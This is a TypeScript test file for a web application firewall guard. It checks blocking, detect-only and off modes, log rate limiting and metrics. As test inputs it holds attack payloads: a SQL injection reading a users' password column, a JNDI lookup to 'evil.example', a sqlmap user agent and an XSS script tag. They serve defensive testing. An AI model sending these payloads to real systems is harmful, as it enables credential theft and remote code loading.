import { createManualClock } from "@aerostack/kernel";
import { Hono } from "hono";
import { afterEach, describe, expect, it } from "vitest";
import { createEngine } from "../front-door/waf/engine.ts";
import { createLogger } from "../kernel/log.ts";
import { createMetrics } from "../kernel/metrics.ts";
import type { AppEnv } from "./app-env.ts";
import { createFirewallGuard, type FirewallMode } from "./firewall-guard.ts";
import { type HttpServer, listen } from "./http-server.ts";

const servers: HttpServer[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close(0);
});

async function serve(management: FirewallMode, projects: FirewallMode) {
  const metrics = createMetrics();
  const lines: string[] = [];
  const log = createLogger({ level: "info", destination: { write: (line) => void lines.push(line) } });
  const clock = createManualClock(1_800_000_000_000);
  const engine = createEngine({ paranoia: 1 });
  const onRequest = createFirewallGuard({ engine, management, projects, metrics, log, clock });
  await metrics.activate();
  const app = new Hono<AppEnv>();
  app.all("*", (c) => c.text("reached"));
  const server = await listen({ app, host: "127.0.0.1", port: 0, onRequest });
  servers.push(server);
  return { origin: `http://127.0.0.1:${server.port}`, metrics, lines, clock };
}

const ATTACK = "?q=1'%20UNION%20SELECT%20password%20FROM%20users--";

describe("P32 the firewall in front of every address", () => {
  it("refuses where it blocks, with a request id that the log has too, and says nothing of the rule", async () => {
    const { origin, lines, metrics } = await serve("block", "block");
    for (const path of ["/api/v1/projects", "/f/shop/hello", "/v1/cache/get", "/setup"]) {
      const answer = await fetch(`${origin}${path}${ATTACK}`);
      const text = await answer.text();
      expect([path, answer.status]).toEqual([path, 403]);
      expect(text).toContain("WAF_BLOCKED");
      expect(text).not.toMatch(/sql|union|6001|rule/i);
      expect(lines.at(-1)).toContain(answer.headers.get("x-request-id"));
      expect(lines.at(-1)).toMatch(/"id":6001/);
      expect(await (await fetch(`${origin}${path}?q=O'Brien`)).text()).toBe("reached");
    }
    expect((await metrics.render()).text).toContain('aerostack_firewall_hits_total{category="sql",action="blocked"} 4');
  });

  it("only notes where it detects, and looks at nothing where it is off", async () => {
    const { origin, lines, metrics } = await serve("off", "detect");
    expect(await (await fetch(`${origin}/f/shop/hello${ATTACK}`)).text()).toBe("reached");
    expect(lines).toHaveLength(1);
    expect(await (await fetch(`${origin}/api/v1/projects${ATTACK}`)).text()).toBe("reached");
    expect(lines).toHaveLength(1);
    expect((await metrics.render()).text).toContain('category="sql",action="detected"} 1');
  });

  it("tells a hundred attacks a minute, and how many more there were", async () => {
    const { origin, lines, metrics, clock } = await serve("block", "block");
    for (let n = 0; n < 103; n++) await fetch(`${origin}/api/x${ATTACK}`);
    expect(lines).toHaveLength(100);
    clock.advance(60_000);
    await fetch(`${origin}/api/x${ATTACK}`);
    expect(lines).toHaveLength(102);
    expect(lines[100]).toContain('"leftOut":3');
    expect((await metrics.render()).text).toContain('category="sql",action="blocked"} 104');
  });

  it("looks at headers too: a lookup in any of them, and the user agent of a scanner", async () => {
    const { origin } = await serve("block", "block");
    const statusOf = async (headers: Record<string, string>) => (await fetch(`${origin}/api/x`, { headers })).status;
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
    expect(await statusOf({ "x-anything": "${jndi:ldap://evil.example/a}" })).toBe(403);
    expect(await statusOf({ "user-agent": "sqlmap/1.7" })).toBe(403);
    expect(await statusOf({ referer: "https://example.com/?q=<script>alert(1)</script>" })).toBe(403);
    expect(await statusOf({ cookie: "session=abc; theme=dark", accept: "*/*" })).toBe(200);
  });
});
